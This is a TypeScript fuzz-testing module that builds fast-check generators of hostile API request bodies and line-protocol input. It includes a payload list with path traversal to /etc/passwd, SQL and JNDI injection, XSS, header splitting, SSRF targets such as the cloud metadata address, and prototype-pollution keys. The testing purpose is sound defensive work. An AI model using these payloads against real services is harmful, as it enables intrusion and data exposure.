import fc from "fast-check";

/**
 * Arbitraries (fast-check) for the API's fuzz tests: input shaped like what an operation reads,
 * with hostile values mixed in at every level, and request bodies no honest client sends. A value
 * shaped right reaches the code behind the validation, which is where a 500 hides.
 */

/** Strings that have broken servers before: traversal, NUL, injection, header splitting, odd unicode, Object.prototype's names, numbers spelled out. */
export const HOSTILE_STRINGS = [
  "",
  " ",
  "../../../../etc/passwd",
  "..%2F..%2Fetc%2Fpasswd",
  "..\\..\\windows\\win.ini",
  "%00",
  "\u0000",
  "a\u0000b",
  "%ZZ",
  "' OR '1'='1",
  "1; DROP TABLE \"User\"; --",
  "\" OR 1=1 --",
  "${jndi:ldap://x/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "\r\nSet-Cookie: x=1",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "valueOf",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "0x10",
  "null",
  "undefined",
  "true",
  "[]",
  "{}",
  "\uFEFFdefault",
  "\uD800",
  "\uDFFF\uD800",
  "d\u0301efault",
  "ＤＥＦＡＵＬＴ",
  "\u202Etluafed",
  "🙂",
  "file:///etc/passwd",
  "http://169.254.169.254/latest/meta-data/",
  "http://[::1]/",
  "http://127.0.0.1:22/",
  "//evil.example/",
  "javascript:alert(1)",
];

/** Long strings: past every limit of the schemas, in bytes and in characters. */
const LONG_STRINGS = ["x".repeat(70_000), "é".repeat(30_000), "\u0000".repeat(5_000), "🙂".repeat(20_000), "a-".repeat(5_000)];

/** Numbers at the edges of what JSON and JavaScript hold. */
export const LIMIT_NUMBERS = [0, -0, -1, 0.5, -0.5, 1e-300, 5e-324, 2 ** 31 - 1, 2 ** 31, -(2 ** 31) - 1, 2 ** 32, 2 ** 53 - 1, 2 ** 53 + 2, -(2 ** 53) - 2, 2 ** 63, 1e21, 1e308, Number.MAX_VALUE, -Number.MAX_VALUE];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", minLength: 100, maxLength: 600 }) },
  { weight: 1, arbitrary: fc.constantFrom(...LONG_STRINGS) },
);

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(...LIMIT_NUMBERS),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer({ min: -(2 ** 31), max: 2 ** 31 }),
  fc.maxSafeInteger(),
);

/** A value JSON can carry, of a type or size nobody asked for. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileString },
  { weight: 3, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constantFrom(null, [], {}, [null], { "": null }) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** JSON texts no schema accepts, and texts JSON.parse reads into something odd. */
const BROKEN_JSON = [
  "{",
  "}",
  "{'a':1}",
  "{\"a\":1,}",
  "[1,2",
  "\"unterminated",
  "{\"a\":1}{\"b\":2}",
  "\uFEFF{}",
  "null",
  "true",
  "0",
  "-1e999",
  "1e999",
  "\"\"",
  "[]",
  "[{}]",
  "{\"\":{}}",
  "{\"a\":\"\\ud800\"}",
  "{\"a\":\"\\u0000\"}",
  "   \n\t ",
  "\u0000",
  "%7B%7D",
  "a=1&b=2",
  "<?xml version=\"1.0\"?><a/>",
];

/** Nesting deep enough to overflow any recursive walk of the parsed value. */
const DEEP_JSON = [
  "[".repeat(5_000) + "]".repeat(5_000),
  "[".repeat(200_000) + "]".repeat(200_000),
  "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000),
  "{\"a\":".repeat(100_000) + "1" + "}".repeat(100_000),
];

/** Keys that pollute Object.prototype when a parsed body is merged or assigned carelessly. */
export const PROTO_KEYS = "\"__proto__\":{\"polluted\":\"yes\",\"role\":\"admin\"},\"constructor\":{\"prototype\":{\"polluted\":\"yes\"}},\"prototype\":{\"polluted\":\"yes\"}";

function text(value: unknown): string {
  return JSON.stringify(value) ?? "";
}

/** The first number of a JSON text turned into one that JSON.parse reads as ±Infinity or 0. */
function withNumberOverflow(json: string, literal: string): string {
  return json.replace(/(:\s*)-?\d+(\.\d+)?([eE][+-]?\d+)?/, `$1${literal}`);
}

/** A JSON object's text with the prototype-polluting keys spliced in; any other text with them wrapped around it. */
function withProtoKeys(json: string): string {
  if (json.startsWith("{}")) return `{${PROTO_KEYS}}`;
  if (json.startsWith("{")) return `{${PROTO_KEYS},${json.slice(1)}`;
  return `{${PROTO_KEYS},"value":${json || "null"}}`;
}

/** A JSON object's text with its first key sent twice, once with a hostile value: first (the good value wins) or last (it wins). */
function withDuplicateKey(json: string, value: unknown, last: boolean): string {
  const first = /^\{("(?:[^"\\]|\\.)*"):/.exec(json);
  if (!first) return json;
  const dup = `${first[1]}:${text(value) || "null"}`;
  return last ? `${json.slice(0, -1)},${dup}}` : `{${dup},${json.slice(1)}`;
}

/**
 * The text of a request body: mostly `shaped` (what the operation reads, hostile values inside),
 * else the same with numbers that overflow, polluting keys, duplicated keys, or no body at all,
 * a hostile value of any type, broken JSON, or nesting thousands deep.
 */
export function hostileJsonBody(shaped: fc.Arbitrary<unknown>): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 20, arbitrary: shaped.map(text) },
    { weight: 1, arbitrary: fc.tuple(shaped, fc.constantFrom("1e999", "-1e999", "1e-999", "123456789012345678901234567890")).map(([v, n]) => withNumberOverflow(text(v), n)) },
    { weight: 2, arbitrary: shaped.map((v) => withProtoKeys(text(v))) },
    { weight: 1, arbitrary: fc.tuple(shaped, hostileValue, fc.boolean()).map(([v, h, last]) => withDuplicateKey(text(v), h, last)) },
    { weight: 1, arbitrary: fc.constant("") },
    { weight: 2, arbitrary: hostileValue.map(text) },
    { weight: 2, arbitrary: fc.constantFrom(...BROKEN_JSON) },
    { weight: 1, arbitrary: fc.constantFrom(...DEEP_JSON) },
    { weight: 1, arbitrary: fc.constant(`{"name":"${"x".repeat(2_000_000)}"}`) },
  );
}

/** A body in InfluxDB line protocol: lines about the given VMs, good and bad, and hostile text. */
export function hostileLineProtocol(vmIds: string[]): fc.Arbitrary<string> {
  const tag = fc.oneof(fc.constantFrom(...vmIds).map((id) => `vm=${id}`), fc.constantFrom("host=203.0.113.9", "vm=", "vm=\\,\\ x", "=x"), hostileString.map((s) => `vm=${s}`));
  const field = fc.oneof(
    fc.tuple(fc.constantFrom("cpu_utilization", "mem_utilization", "bytes_in", "kb_read", "unknown_metric"), fc.oneof(hostileNumber.map(String), fc.constantFrom("1i", "-1i", "18446744073709551615u", "1e999", "NaN", "t", "\"s\"", ""))).map(([k, v]) => `${k}=${v}`),
    hostileString,
  );
  const ts = fc.oneof(fc.constant(""), fc.constantFrom("0", "-1", "1764000000000000000", "99999999999999999999999", "1.5", "abc"), fc.bigInt({ min: -(2n ** 70n), max: 2n ** 70n }).map(String));
  const line = fc.oneof(
    { weight: 4, arbitrary: fc.tuple(fc.constantFrom("cpu", "mem", "m", ""), tag, fc.array(field, { minLength: 1, maxLength: 3 }), ts).map(([m, t, f, s]) => `${m},${t} ${f.join(",")}${s ? ` ${s}` : ""}`) },
    { weight: 1, arbitrary: fc.constantFrom("# comment", "", "   ", "cpu", "cpu,vm=x", "cpu field", ",,, ,,,", "\u0000\u0000") },
    { weight: 1, arbitrary: hostileString },
  );
  return fc.oneof({ weight: 6, arbitrary: fc.array(line, { minLength: 0, maxLength: 6 }).map((l) => l.join("\n")) }, { weight: 1, arbitrary: fc.constant("cpu,vm=x cpu_utilization=1\n".repeat(20_000)) });
}

type JsonSchema = Record<string, unknown>;

export interface SchemaArbitraryContext {
  /** The schema whose `$defs` a `$ref` points into. */
  root: JsonSchema;
  /** Plausible values by property or parameter name (a real region key for `key`, an MCI's id for `id`), tried often. */
  hints: Record<string, fc.Arbitrary<unknown>>;
}

function resolve(ref: string, root: JsonSchema): JsonSchema {
  const m = /^#\/\$defs\/(.+)$/.exec(ref);
  const def = m ? (root.$defs as Record<string, JsonSchema> | undefined)?.[m[1]] : undefined;
  if (!def) throw new Error(`cannot resolve ${ref}`);
  return def;
}

function num(v: unknown): number | undefined {
  return typeof v === "number" ? v : undefined;
}

function stringShape(s: JsonSchema): fc.Arbitrary<string> {
  const min = num(s.minLength) ?? 0;
  const max = Math.max(min, Math.min(num(s.maxLength) ?? 40, 60));
  if (s.format === "email") return fc.emailAddress();
  if (s.format === "date-time") return fc.date({ min: new Date("1970-01-01T00:00:00Z"), max: new Date("2100-01-01T00:00:00Z"), noInvalidDate: true }).map((d) => d.toISOString());
  if (s.format === "uri") return fc.webUrl();
  if (typeof s.pattern === "string") {
    try {
      return fc.stringMatching(new RegExp(s.pattern), { maxLength: max });
    } catch {
      // a pattern fast-check cannot generate from: plain strings below
    }
  }
  return fc.string({ minLength: min, maxLength: max });
}

function integerShape(s: JsonSchema): fc.Arbitrary<number> {
  const min = num(s.minimum) ?? (num(s.exclusiveMinimum) !== undefined ? num(s.exclusiveMinimum)! + 1 : -1_000_000);
  const max = num(s.maximum) ?? (num(s.exclusiveMaximum) !== undefined ? num(s.exclusiveMaximum)! - 1 : 1_000_000);
  return fc.oneof({ weight: 4, arbitrary: fc.integer({ min, max }) }, { weight: 1, arbitrary: fc.constantFrom(min, max, min - 1, max + 1) });
}

function numberShape(s: JsonSchema): fc.Arbitrary<number> {
  const min = num(s.minimum) ?? num(s.exclusiveMinimum);
  const max = num(s.maximum) ?? num(s.exclusiveMaximum);
  const inRange = fc.double({ min, max, minExcluded: s.exclusiveMinimum !== undefined, maxExcluded: s.exclusiveMaximum !== undefined, noNaN: true, noDefaultInfinity: true });
  const edges = [min, max].filter((v): v is number => v !== undefined);
  return edges.length ? fc.oneof({ weight: 4, arbitrary: inRange }, { weight: 1, arbitrary: fc.constantFrom(...edges) }) : inRange;
}

/** Sometimes drops one key of an object: a required field gone missing. */
function maybeDropKey(arb: fc.Arbitrary<Record<string, unknown>>): fc.Arbitrary<Record<string, unknown>> {
  return fc.tuple(arb, fc.nat(9), fc.nat()).map(([o, roll, pick]) => {
    const keys = Object.keys(o);
    if (roll !== 0 || !keys.length) return o;
    const { [keys[pick % keys.length]]: _dropped, ...rest } = o;
    return rest;
  });
}

function shaped(s: JsonSchema, ctx: SchemaArbitraryContext, key: string | undefined): fc.Arbitrary<unknown> {
  if (typeof s.$ref === "string") return shaped(resolve(s.$ref, ctx.root), ctx, key);
  const own = ownShape(s, ctx);
  const hint = key ? ctx.hints[key] : undefined;
  return hint ? fc.oneof({ weight: 3, arbitrary: hint }, { weight: 1, arbitrary: own }) : own;
}

function ownShape(s: JsonSchema, ctx: SchemaArbitraryContext): fc.Arbitrary<unknown> {
  const variants = (s.anyOf ?? s.oneOf) as JsonSchema[] | undefined;
  if (variants?.length) return fc.oneof(...variants.map((v) => shaped(v, ctx, undefined)));
  if (Array.isArray(s.enum) && s.enum.length) return fc.constantFrom(...(s.enum as unknown[]));
  if ("const" in s) return fc.constant(s.const);
  if (Array.isArray(s.type)) return fc.oneof(...(s.type as string[]).map((type) => ownShape({ ...s, type }, ctx)));
  switch (s.type) {
    case "string":
      return stringShape(s);
    case "integer":
      return integerShape(s);
    case "number":
      return numberShape(s);
    case "boolean":
      return fc.boolean();
    case "null":
      return fc.constant(null);
    case "array": {
      const minLength = Math.min(num(s.minItems) ?? 0, 3);
      const maxLength = Math.max(minLength, Math.min(num(s.maxItems) ?? 3, 3));
      return fc.array(s.items ? arbitraryFromSchema(s.items as JsonSchema, ctx) : hostileValue, { minLength, maxLength });
    }
    case "object": {
      const props = Object.entries((s.properties ?? {}) as Record<string, JsonSchema>);
      if (props.length) {
        const required = ((s.required ?? []) as string[]).filter((k) => props.some(([p]) => p === k));
        const model = Object.fromEntries(props.map(([k, p]) => [k, arbitraryFromSchema(p, ctx, k)]));
        return maybeDropKey(fc.record(model, { requiredKeys: required }) as fc.Arbitrary<Record<string, unknown>>);
      }
      const keys = s.propertyNames ? fc.oneof({ weight: 4, arbitrary: stringShape(s.propertyNames as JsonSchema) }, { weight: 1, arbitrary: hostileString }) : fc.string({ maxLength: 20 });
      const values = s.additionalProperties && typeof s.additionalProperties === "object" ? arbitraryFromSchema(s.additionalProperties as JsonSchema, ctx) : fc.jsonValue({ maxDepth: 2 });
      return fc.dictionary(keys, values, { maxKeys: 4, noNullPrototype: true });
    }
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

/**
 * Values shaped by a JSON Schema (as zod writes them): right types and bounds, the hints' plausible
 * values, boundary numbers and now and then a missing field; at every level, about one time in
 * fifteen, a hostile value instead (often enough that most bodies carry one somewhere, rarely
 * enough that many reach the code behind the validation).
 */
export function arbitraryFromSchema(schema: JsonSchema, ctx: SchemaArbitraryContext, key?: string): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 14, arbitrary: shaped(schema, ctx, key) }, { weight: 1, arbitrary: hostileValue });
}

/** How a value goes into a query string or a path segment. */
export function asText(value: unknown): string {
  return typeof value === "string" ? value : typeof value === "number" ? String(value) : (JSON.stringify(value) ?? "");
}
